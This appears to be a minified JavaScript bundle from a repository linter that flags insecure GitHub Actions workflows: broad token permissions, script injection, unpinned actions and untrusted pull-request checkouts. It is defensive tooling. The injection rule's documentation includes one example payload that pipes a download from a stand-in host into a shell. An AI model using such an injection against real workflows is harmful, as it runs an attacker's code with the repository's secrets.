"use strict";exports.id=464;exports.ids=[464];exports.modules={89:(e,t,n)=>{n.d(t,{c:()=>s});function s(e,t){let n={folder:"",value:e,outer:undefined}
;return e=>{while(e.slice(0,n.folder.length)!==n.folder)n=n.outer;for(let s=e.indexOf("/",n.folder.length)+1;s>0;s=e.indexOf("/",s)+1){const o=e.slice(0,s);n={
folder:o,value:t(n.value,o,n.folder.length),outer:n}}return n.value}}},64238:(e,t,n)=>{n.d(t,{pt:()=>_,Ko:()=>P,rV:()=>j});var s=n(89);const o={generated:1<<10,
vendored:1<<11,fixture:1<<12,test:1<<13,built:1<<29,manual:1<<30};const r={source:1<<14,data:1<<15,works:1<<16,trees:1<<17,resources:1<<18}
;const{generated:i,vendored:a,fixture:u,test:l,built:c,manual:d}=o;const f=i|a|u|l|c|d
;const h=[["node_modules bower_components vendor vendored third_party third-party thirdparty .yarn",a],["externallib externallibs external_lib external_libs external-lib external-libs",a],["testdata test_data test-data testfiles test_files test-files testcases corpus",u],["__snapshots__ snapshots golden goldens goldenfile goldenfiles golden_files golden-files",u],["generated __generated__ autogen",i],[".idea .run .junit.run .settings",i],["__tests__",l],["dist",c],["man man1 man2 man3 man4 man5 man6 man7 man8",d],["src",r.source],["data assets dummy",r.data],["input inputs output outputs expected stub stubs",r.works],["in out",r.trees],["resources projects",r.resources]]
;const p=new Map(h.flatMap(([e,t])=>e.split(" ").map(e=>[e,t])));p.set("test data",u);p.set("test files",u)
;const m=/(?:[Ff]ixtures?|[Tt]ests?|\.in|\.out|\.xcodeproj)$|^generated[_-]/
;const w=[[/^[\w.-]*[Ff]ixtures?$/,u],[/^(?:.*[._ -])?[Tt]ests?$|^\w*[a-z]Tests?$/,l],[/^[\w-]+\.(?:in|out)$/,r.trees],[/\.xcodeproj$|^generated[_-]\w+$/,i]]
;const g=new Map;const b=(0,s.c)({all:0,own:0,parent:0},(e,t,n)=>{const s=y(t.slice(n,-1));let{all:o}=e;if((o&l)!==0&&v(s,e))o|=u;o|=s&f
;if((o&l)!==0)o|=s&r.trees;return{all:o,own:s,parent:e.own}});function k(e){return b(e).all&f}function v(e,t){
if((e&r.works)!==0||(t.all&r.trees)!==0)return true;if((t.own&l)===0)return false;return(e&r.data)!==0||(e&r.resources)!==0&&(t.parent&r.source)!==0}
function y(e){let t=g.get(e);if(t===undefined){t=p.get(e)??(p.get(e.toLowerCase())??0)&(a|u|i);if(m.test(e))for(const[n,s]of w)if(n.test(e))t|=s;g.set(e,t)}
return t}const _={json:1<<0,jsonc:1<<1,yaml:1<<2,toml:1<<3,xml:1<<4,notebook:1<<5,editorconfig:1<<6,markdown:1<<7,patch:1<<8,workflow:1<<9,
generated:o.generated,vendored:o.vendored,fixture:o.fixture,test:o.test};const j=_.generated|_.vendored|_.fixture;const $=1<<28;const x=1<<27
;const q=o.test|o.built|o.manual;const A=~($|x|o.built|o.manual)
;const{json:L,jsonc:I,yaml:E,toml:S,xml:T,notebook:W,editorconfig:M,markdown:C,patch:O,generated:H}=_
;const D=new Map([["json",L],["jsonc",I],["json5",0],["code-workspace",I],["webmanifest",L],["geojson",L],["topojson",L],["jsonld",L],["har",L],["sarif",L],["yaml",E],["yml",E],["toml",S],["xml",T],["svg",T|H],["drawio",T|H],["excalidraw",L|H],["xsd",T],["xsl",T],["xslt",T],["rng",T],["wsdl",T],["plist",T],["csproj",T],["vbproj",T],["fsproj",T],["vcxproj",T],["props",T],["targets",T],["nuspec",T],["resx",T],["xaml",T],["pom",T],["ipynb",W],["md",C],["markdown",C],["mdx",C],["patch",O],["diff",O],["rej",O],["snap",H],["map",L|H],["lock",H],["sln",H],["dotsettings",H],["api",H]])
;for(const e of("txt text log out stdout stderr output expected actual golden approved received ini cfg conf properties env csv tsv "+"html htm xhtml css scss sass less styl vue svelte hbs handlebars mustache erb haml slim j2 jinja jinja2 tmpl tpl "+"ejs pug twig liquid graphql gql rst adoc po pot srt vtt nfo eml pem crt cer key pub p8 dot tex gitignore hgignore dockerignore npmignore").split(" ")){
D.set(e,$)}for(const e of["js","mjs","cjs","css"])D.set(e,(D.get(e)??0)|x);const F=L|I|E|S|T|W|C|O|$
;const z=/^(?:readme|changelog|contributing)|^cmakelists\.txt$|.(?:proj|\.props|\.targets)$/;const B=/\.(?:[cm]?js|css|html|map|d\.[cm]?ts)$/;const Q=/\.[1-8]$/
;const X=new Map([[".editorconfig",M],[".clang-format",E],[".clang-tidy",E],[".gemrc",E],["citation.cff",E],[".prettierrc",0],[".babelrc",0],[".babelrc.json",0],["babel.config.json",0],[".jshintrc",I],[".jscsrc",I],[".eslintrc.json",I],[".swcrc",I],[".hintrc",I],[".devcontainer.json",I],["devcontainer.json",I],["tslint.json",I],["api-extractor.json",I],["turbo.json",I],["angular.json",I],[".luarc.json",I],["language-configuration.json",I],["rush.json",I],["renovate.json",I],[".renovaterc",I],[".renovaterc.json",I],[".oxlintrc.json",I],[".markdownlint.json",I],["typedoc.json",I],[".cspell.json",I],["cspell.json",I],["pyrightconfig.json",I],["biome.json",I],["deno.json",I],["bun.lock",I|H],["composer.lock",L|H],["flake.lock",L|H],["package-lock.json",L|H],["devcontainer-lock.json",L|H],["npm-shrinkwrap.json",L|H],["pipfile.lock",L|H],["pnpm-lock.yaml",E|H],["cargo.lock",S|H],["poetry.lock",S|H],["uv.lock",S|H],["pdm.lock",S|H],["pipfile",S],["go.sum",H]])
;const G=/^(?:tsconfig|jsconfig)(?:[.-][^/]*)?\.json$/;const J=".github/workflows/";const R=/(?:^|\/)\.(?:vscode|devcontainer)\/[^/]*\.json$/;function P(e){
const t=k(e);const n=e.slice(e.lastIndexOf("/")+1).toLowerCase();const s=Z(n,e)|t;return((t&q)===0?s:U(n,s))&A}function U(e,t){
const n=(t&_.test)!==0&&(t&F)!==0&&!z.test(e)?_.fixture:0;const s=(t&o.built)!==0&&B.test(e)?H:0;const r=(t&o.manual)!==0&&Q.test(e)?H:0;return t|n|s|r}
function Z(e,t){const n=X.get(e);if(n!==undefined)return n;const s=e.lastIndexOf(".");const o=D.get(e.slice(s+1))??0;if(o===L&&(G.test(e)||R.test(t)))return I
;if(o===E&&N(t))return E|_.workflow;const r=e[s-4];if((o&x)!==0&&(r==="."||r==="-")&&e.startsWith("min",s-3))return H;return o}function N(e){
const t=e.lastIndexOf("/")+1;if(e.startsWith("action.y",t))return/^action\.ya?ml$/.test(e.slice(t));return t===J.length&&e.startsWith(J)&&/\.ya?ml$/.test(e)}},
64674:(e,t,n)=>{n.d(t,{XD:()=>s,rk:()=>r,vy:()=>o});function s(e){return e}function o(e){return e}function r(e){return e}},40464:(e,t,n)=>{n.r(t);n.d(t,{
workflowPermissions:()=>i,workflowScriptInjection:()=>I,workflowUnpinnedUses:()=>C,workflowUntrustedCheckout:()=>Q});var s=n(64238);var o=n(64674)
;var r=n(38081);const i=(0,o.XD)({scope:"file",id:"workflow-permissions",summary:"A workflow whose token may do more than it says",level:"warning",
docs:`Every job receives a token for the repository. Without \`permissions\` the settings of the repository or the\norganisation decide what it may do, and in many that is to write everything. Whatever the job runs, an action or a\npackage that turned bad, may do the same.\n\nReported are \`permissions: write-all\`, and once per workflow that neither the workflow nor each of its jobs names its\npermissions. A workflow that is only called by others (\`workflow_call\`) is left alone: its caller sets the limit.\n\nBegin with \`permissions: { contents: read }\` at the top, or \`permissions: {}\`, and give single jobs what they need.`,
source:"https://docs.github.com/en/actions/reference/workflows-and-actions/workflow-syntax#permissions",types:s.pt.workflow,examples:()=>[{
title:"no permissions at all, or in one job only",files:{".github/workflows/a.yml":"on: push\njobs:\n  build:\n    runs-on: ubuntu-latest\n    steps: []\n",
".github/workflows/b.yml":"on: push\njobs:\n  one:\n    permissions: {}\n    runs-on: ubuntu-latest\n  two:\n    runs-on: ubuntu-latest\n"},
findings:[".github/workflows/a.yml:3 missing",".github/workflows/b.yml:6 missing"]},{title:"everything",files:{
".github/workflows/a.yml":"on: push\npermissions: write-all\njobs:\n  build:\n    runs-on: ubuntu-latest\n"},findings:[".github/workflows/a.yml:2 write-all"]},{
title:"at the top, in each job, or set by the caller",files:{
".github/workflows/a.yml":"on: push\npermissions:\n  contents: read\njobs:\n  build:\n    runs-on: ubuntu-latest\n",
".github/workflows/b.yml":"on: push\njobs:\n  build:\n    permissions: {}\n    runs-on: ubuntu-latest\n",
".github/workflows/c.yml":"on: workflow_call\njobs:\n  build:\n    runs-on: ubuntu-latest\n"},findings:[]}],run(e,t){return(0,r.xQ)(e,t,a)}})
;function*a({kind:e,triggers:t,permissions:n,jobs:s}){for(const{all:e}of[n,...s.map(e=>e.permissions)].filter(e=>e!==undefined)){
if(e?.value!=="write-all")continue;yield{start:e.start,end:e.end,rule:"write-all",message:"`write-all` lets the token change everything in the repository"}}
const o=t.size===1&&t.has("workflow_call");if(e==="action"||o||n!==undefined)return;const r=s.filter(e=>e.permissions===undefined);if(r[0]===undefined)return
;const i=r.length===s.length?"neither the workflow nor its jobs name":`neither the workflow nor ${u(r.map(e=>e.name.value))} names`
;const{start:a,end:l}=r[0].name;yield{start:a,end:l,rule:"missing",message:`${i} the permissions of the token`}}function u(e){
const t=e.slice(0,3).map(e=>`\`${e}\``);return e.length>3?`${t.join(", ")} and ${e.length-3} more jobs`:t.join(", ")}function l(e){const t=d(e);const n={
tokens:t,at:0};const s=t===undefined?undefined:h(n);if(s!==undefined&&n.at===t?.length)return s
;return(e.match(/[A-Za-z_][\w-]*(?:\.[\w*-]+)+/g)??[]).map(e=>e.toLowerCase())}
const c=/\s*('(?:[^']|'')*'|[A-Za-z_][\w-]*|[\d.+-][\w.+-]*|&&|\|\||[=!<>]=|[()[\],.!<>*])/y;function d(e){const t=[];const n=e.trimEnd()
;for(c.lastIndex=0;c.lastIndex<n.length;){const e=c.exec(n);if(e===null)return undefined;const[,s]=e;if(/^\.[^\d]/.test(s)){t.push(".");c.lastIndex-=s.length-1
}else t.push(s)}return t}function f(e,...t){const n=e.tokens?.[e.at];if(n===undefined||!t.includes(n))return undefined;e.at++;return n}function h(e){let t=p(e)
;while(t!==undefined&&f(e,"||")){const n=p(e);t=n===undefined?undefined:[...t,...n]}return t}function p(e){let t=m(e);while(t!==undefined&&f(e,"&&"))t=m(e)
;return t}function m(e){let t=w(e);while(t!==undefined&&f(e,"==","!=","<","<=",">",">=")){t=w(e)===undefined?undefined:[]}return t}function w(e){
if(!f(e,"!"))return g(e);return w(e)===undefined?undefined:[]}function g(e){const t=e.tokens?.[e.at++];if(t===undefined)return undefined
;if(t==="(")return v(e,b(e));if(/^['\d+.-]/.test(t))return[];if(!/^[A-Za-z_]/.test(t))return undefined;if(f(e,"("))return v(e,k(e,t.toLowerCase()))
;return v(e,/^(?:true|false|null|infinity|nan)$/i.test(t)?[]:[t.toLowerCase()])}function b(e){const t=h(e);return f(e,")")?t:undefined}function k(e,t){
const n=[];while(!f(e,")")){const t=h(e);if(t===undefined)return undefined;n.push(...t);if(!f(e,",")&&e.tokens?.[e.at]!==")")return undefined}
return/^(?:contains|startswith|endswith|hashfiles|always|success|failure|cancelled)$/.test(t)?[]:n}function v(e,t){let n=t;while(n!==undefined){let t
;if(f(e,"."))t=e.tokens?.[e.at++];else if(f(e,"["))t=y(e);else return n;if(t===undefined)return undefined;const s=t.toLowerCase();n=n.map(e=>`${e}.${s}`)}
return undefined}function y(e){const t=e.tokens?.[e.at]?.match(/^'([\w-]+)'$/)?.[1];if(t!==undefined)e.at++;else if(!f(e,"*")&&h(e)===undefined)return undefined
;return f(e,"]")?t??"*":undefined}const _="(?:author|committer)\\.(?:name|email)";const j=`(?:message|${_})`
;const $=["(?:issue|discussion|pull_request)\\.(?:title|body)","(?:comment|review|review_comment|discussion_comment)\\.body","pull_request\\.head\\.(?:ref|label|repo\\.(?:default_branch|description|homepage))","pages\\.[^.]+\\.page_name",`(?:commits\\.[^.]+|head_commit)\\.${j}`,"workflow_run\\.(?:head_branch|display_title|head_repository\\.description|pull_requests\\.[^.]+\\.head\\.ref)",`workflow_run\\.head_commit\\.${j}`].join("|")
;const x=new RegExp(`^github\\.(?:head_ref|event\\.(?:${$}))$`)
;const q=/^github(?:\.event(?:\.(?:issue|discussion|pull_request|comment|review|commits|head_commit|workflow_run)(?:\.\*)?)?)?$/;function A(e){
return x.test(e)||q.test(e)}function L(e){return e==="github.head_ref"||e.startsWith("github.event.pull_request.")}const I=(0,o.XD)({scope:"file",
id:"workflow-script-injection",summary:"A script into which a stranger can write commands",level:"error",
docs:`GitHub puts the value of \`\${{ \u2026 }}\` into a script before the shell reads it. Where the value is the title of an\nissue or the name of a branch, whoever chooses it writes commands into the script: \`"; curl evil.example | sh; "\`.\n\nLooked at are \`run\` and the \`script\` of \`actions/github-script\`, and in them the contexts that anybody can fill: titles,\nbodies, messages, names and e-mail addresses of authors, head branches; also by way of \`env\`. Expressions that only\ncompare or test such a value are left alone. The level is a warning where the value exists in pull requests only and the\nrun has neither secrets nor a token that may write. Inputs of a composite action, and text inputs of a reusable workflow,\nare a note, one for each script: it depends on who calls. Inputs of \`workflow_dispatch\` are left alone, only members can give them.\n\nHand the value over as a variable, and quote it: \`env: { TITLE: "\${{ github.event.issue.title }}" }\`, then \`"$TITLE"\`\nin the shell or \`process.env.TITLE\` in JavaScript.`,
source:"https://docs.github.com/en/actions/concepts/security/script-injections",types:s.pt.workflow,examples:()=>[{
title:"a title in a shell, a branch in JavaScript, a message by way of a variable",files:{
".github/workflows/triage.yml":`on: [issues, pull_request_target, push]\nenv:\n  MESSAGE: \${{ github.event.head_commit.message }}\njobs:\n  triage:\n    runs-on: ubuntu-latest\n    steps:\n      - run: |\n          echo "New:"\n          echo "\${{ github.event.issue.title || 'none' }}"\n      - uses: actions/github-script@v7\n        with:\n          script: console.log('\${{ github.head_ref }}')\n      - run: echo "\${{ env.MESSAGE }}" "\${{ toJSON(github.event.issue) }}"\n`
},findings:[10,13,14,14].map(e=>`.github/workflows/triage.yml:${e}`)},{title:"the inputs of a composite action",files:{
"greet/action.yml":`inputs:\n  name:\n    description: Who\nruns:\n  using: composite\n  steps:\n    - run: echo "\${{ inputs.name }}"\n      shell: bash\n`},
findings:["greet/action.yml:7"]},{title:"values as variables, comparisons, numbers, and inputs that members give",files:{
".github/workflows/triage.yml":`on:\n  issues:\n  workflow_dispatch:\n    inputs:\n      name: { type: string }\njobs:\n  triage:\n    runs-on: ubuntu-latest\n    steps:\n      - run: echo "$TITLE" "\${{ contains(github.event.issue.title, 'bug') }}" "\${{ github.event.issue.number }}"\n        env:\n          TITLE: \${{ github.event.issue.title }}\n      - run: echo "\${{ github.event.issue.title == 'x' && 'yes' || 'no' }}" "\${{ inputs.name }}"\n`
},findings:[]}],run(e,t){return(0,r.xQ)(e,t,E)}});function*E(e,t){for(const n of e.jobs){for(const s of n.steps){for(const o of S(s)){let i=false
;for(const{expression:a,start:u,end:c}of(0,r.F9)(t,o)){const o=l(a).flatMap(o=>[o,...T(o,[s,n,e],t)]);const r=W(o,e)
;if(r===undefined||r.level==="note"&&i)continue;i||=r.level==="note";yield{start:u,end:c,...r}}}}}}function S({uses:e,run:t,with:n}){
const s=/^actions\/github-script@/i.test(e?.value??"")?n.get("script"):undefined;return[t,s].filter(e=>e!==undefined)}function T(e,t,n){
const s=e.match(/^env\.(.+)$/)?.[1];if(s===undefined)return[];const o=t.map(({env:e})=>e.get(s)).find(e=>e!==undefined);return o===undefined?[]:[...(0,
r.F9)(n,o)].flatMap(({expression:e})=>l(e))}function W(e,t){const n=e.find(A);if(n!==undefined){
const e=["pull_request_target","workflow_call"].some(e=>t.triggers.has(e));const s=t.kind==="workflow"&&L(n)&&!e
;const o=`whoever chooses \`${n}\` can write commands into this script; hand it over in \`env\``;return{message:o,level:s?"warning":"error"}}
const s=e.find(e=>e.startsWith("inputs.")&&t.textInputs.has(e.slice(7)));if(s===undefined)return undefined;return{
message:`whoever fills \`${s}\` can write commands into this script; hand it over in \`env\``,level:"note"}}const M="a5ac7e51b41094c92402da3b24376905380afc29"
;const C=(0,o.XD)({scope:"file",id:"workflow-unpinned-uses",summary:"An action that is named by a tag or a branch, which can be moved",level:"warning",
docs:`Whoever can push to an action's repository can move its tags, and every workflow that names one then runs other\ncode, with its secrets and its token. Only the full SHA of a commit stands for the same code always.\n\nLooked at are the steps and the called workflows of \`.github/workflows\`, and the steps of composite actions. Local\nactions (\`./\u2026\`) and images with a digest are left alone. GitHub's own actions (\`actions/\u2026\`, \`github/\u2026\`) are a note only.\n\`allow\` names owners or repositories that are trusted, your own organisation for instance: \`acme\`, \`acme/deploy\`,\n\`acme/deploy-*\`.\n\nPut the SHA in place of the tag and the tag in a comment behind it: \`uses: acme/deploy@${M.slice(0,8)}\u2026 # v1.2.3\`.\nDependabot and Renovate update both.`,
source:"https://docs.github.com/en/actions/reference/security/secure-use#using-third-party-actions",types:s.pt.workflow,options:{allow:{type:"strings",
default:[],summary:"Owners and repositories that are trusted; `*` stands for any name"}},examples:()=>[{
title:"tags, branches, short SHAs, images and called workflows",files:{
".github/workflows/ci.yml":`on: push\njobs:\n  build:\n    runs-on: ubuntu-latest\n    steps:\n      - uses: actions/checkout@v4\n      - uses: acme/setup@main\n      - uses: acme/setup/node@a5ac7e5\n      - uses: docker://alpine:3.20\n  call:\n    uses: acme/shared/.github/workflows/ci.yml@v1\n`
},findings:[6,7,8,9,11].map(e=>`.github/workflows/ci.yml:${e}`)},{title:"pinned, local, or trusted",options:{allow:["acme","else/deploy-*"]},files:{
"deploy/action.yml":`runs:\n  using: composite\n  steps:\n    - uses: elsewhere/setup@${M} # v1\n    - uses: ./setup\n    - uses: docker://alpine@sha256:${M}${M.slice(0,24)}\n    - uses: acme/deploy@v1\n    - uses: else/deploy-web@v1\n`
},findings:[]}],run(e,t,n){const s=n.allow.map(H);return(0,r.xQ)(e,t,function*(e){for(const t of e.jobs){for(const e of[t.uses,...t.steps.map(e=>e.uses)]){
const t=e===undefined?undefined:O(e,s);if(t!==undefined)yield t}}})}});function O(e,t){const{value:n,start:s,end:o}=e
;if(n.startsWith("./")||n.startsWith(".\\")||n.includes("${{"))return undefined;if(n.startsWith("docker://")){return/@sha256:[\da-f]{64}$/.test(n)?undefined:{
start:s,end:o,message:`the image \`${n.slice(9)}\` is not pinned by its digest`}}const[r="",i=""]=n.split("@");const[a="",u=""]=r.split("/")
;if(/^[\da-f]{40}(?:[\da-f]{24})?$/i.test(i)||t.some(e=>e.test(`${a}/${u}`)))return undefined
;const l=i===""?`\`${n}\` names no version`:`\`${r}\` is pinned to \`${i}\`, which can be moved, not to the SHA of a commit`;return{start:s,end:o,message:l,
level:/^(?:actions|github)$/i.test(a)?"note":"warning"}}function H(e){const t=e.replace(/[.+?^${}()|[\]\\]/g,"\\$&").replaceAll("*","[^/]*")
;return new RegExp(`^${t}${e.includes("/")?"":"/.*"}$`,"i")}
const D=/github\.event\.pull_request\.(?:head\.|number|merge_commit_sha)|github\.head_ref|github\.event\.number|refs\/pull\//
;const F=/github\.event\.workflow_run\.(?:head_(?!repository\.full_name\s*==)|pull_requests)/
;const z=/\bgh\s+pr\s+checkout\b|\bgit\s+(?:fetch|pull|checkout|switch)\b[^\n]*(?:\bpull\/\S+\/(?:head|merge)|github\.head_ref|pull_request\.head\.)/
;const B=/head\.repo\.full_name\s*==\s*(?:github\.repository|'[^']+')|head\.repo\.fork\s*==\s*false|!\s*github\.event\.pull_request\.head\.repo\.fork|workflow_run\.head_repository\.full_name\s*==|workflow_run\.event\s*==\s*'(?!pull_request)|workflow_run\.event\s*!=\s*'pull_request'/
;const Q=(0,o.XD)({scope:"file",id:"workflow-untrusted-checkout",summary:"A workflow with secrets that checks out the code of a stranger",level:"error",
docs:`\`pull_request_target\` and \`workflow_run\` run in the name of the repository, with its secrets and a token that may\nwrite, even when a fork set them off. If such a run checks out the head of the pull request and then builds, installs or\ntests it, the author of the pull request runs commands with those secrets.\n\nLooked at are \`actions/checkout\` with a \`ref\` or \`repository\` of the pull request, and scripts with \`gh pr checkout\` or\n\`git fetch \u2026 pull/\u2026\`. For \`workflow_run\` the level is a warning, since what set it off may never be a pull request. Jobs\nand steps are left alone whose condition admits other events only, or only code from the repository itself\n(\`head.repo.full_name == github.repository\`, \`workflow_run.event == 'push'\`).\n\nBuild under \`pull_request\`, hand the result over as an artifact, and let the privileged workflow read that as data.`,
source:"https://docs.github.com/en/actions/reference/security/secure-use#mitigating-the-risks-of-untrusted-code-checkout",types:s.pt.workflow,examples:()=>[{
title:"the head of the pull request, with secrets",files:{
".github/workflows/ci.yml":`on: [push, pull_request_target]\njobs:\n  test:\n    runs-on: ubuntu-latest\n    steps:\n      - uses: actions/checkout@v4\n        with:\n          ref: \${{ github.event.pull_request.head.sha }}\n      - run: gh pr checkout 1\n`
},findings:[".github/workflows/ci.yml:8",".github/workflows/ci.yml:9"]},{title:"the commit that set off the first workflow",files:{
".github/workflows/after.yml":`on:\n  workflow_run:\n    workflows: [CI]\njobs:\n  test:\n    runs-on: ubuntu-latest\n    steps:\n      - uses: actions/checkout@v4\n        with:\n          ref: \${{ github.event.workflow_run.head_sha }}\n`
},findings:[".github/workflows/after.yml:10"]},{title:"the base, an event without secrets, and code from the repository itself",files:{
".github/workflows/base.yml":`on: pull_request_target\njobs:\n  label:\n    runs-on: ubuntu-latest\n    steps:\n      - uses: actions/checkout@v4\n  own:\n    if: github.event.pull_request.head.repo.full_name == github.repository\n    runs-on: ubuntu-latest\n    steps:\n      - uses: actions/checkout@v4\n        with:\n          ref: \${{ github.head_ref }}\n`,
".github/workflows/ci.yml":`on: pull_request\njobs:\n  test:\n    runs-on: ubuntu-latest\n    steps:\n      - uses: actions/checkout@v4\n        with:\n          ref: \${{ github.event.pull_request.head.sha }}\n`
},findings:[]}],run(e,t){return(0,r.xQ)(e,t,X)}});function*X({triggers:e,jobs:t}){const n=["pull_request_target","workflow_run"].filter(t=>e.has(t))
;for(const e of t){for(const t of e.steps){const s=`${e.condition}\n${t.condition}`;if(B.test(s))continue;const o=n.find(e=>G(s,e)&&J(t,e)!==undefined)
;const r=o===undefined?undefined:J(t,o);if(o===undefined||r===undefined)continue
;const i=`\`${o}\` runs with secrets, and this checks out code that a stranger may have written`;yield{start:r.start,end:r.end,message:i,
level:o==="workflow_run"?"warning":"error"}}}}function G(e,t){const n=[...e.matchAll(/github\.event_name\s*==\s*'(\w+)'/g)].map(e=>e[1])
;const s=[...e.matchAll(/github\.event_name\s*!=\s*'(\w+)'/g)].map(e=>e[1]);return(n.length===0||n.includes(t))&&!s.includes(t)}
function J({uses:e,run:t,with:n},s){const o=s==="workflow_run"?F:D;if(/^actions\/checkout@/i.test(e?.value??"")){
return["ref","repository"].map(e=>n.get(e)).find(e=>e&&o.test(e.value))}return s==="pull_request_target"&&z.test(t?.value??"")?t:undefined}},38081:(e,t,n)=>{
n.d(t,{F9:()=>a,hM:()=>o,xQ:()=>i});let s;async function o(e){if(s?.text!==e)s={text:e,parsed:r(e)};return s.parsed}async function r(e){
if(!/^\s*["']?(?:jobs|runs)["']?\s*:/m.test(e))return undefined;const{parseYamlWorkflow:t}=await Promise.all([n.e(8815),n.e(5917)]).then(n.bind(n,35917))
;return t(e)}async function i(e,t,n){const s=e.text();const r=await o(s);if(r===undefined)return;const i=Buffer.byteLength(s)===e.length;const a=new Set
;for(const{start:e,end:o,message:u,level:l,rule:c}of n(r,s)){const n=`${e}:${o}:${c}`;if(a.has(n))continue;a.add(n);const r=Buffer.byteLength(s.slice(0,e))
;const d=i?{offset:r,length:Buffer.byteLength(s.slice(e,o))}:undefined;t({message:u,at:d,level:l,rule:c})}}function*a(e,t){
for(const n of e.slice(t.start,t.end).matchAll(/\$\{\{((?:'(?:[^']|'')*'|(?!\}\}).)*)\}\}/gs)){const e=t.start+n.index;yield{expression:n[1],start:e,
end:e+n[0].length}}}}};
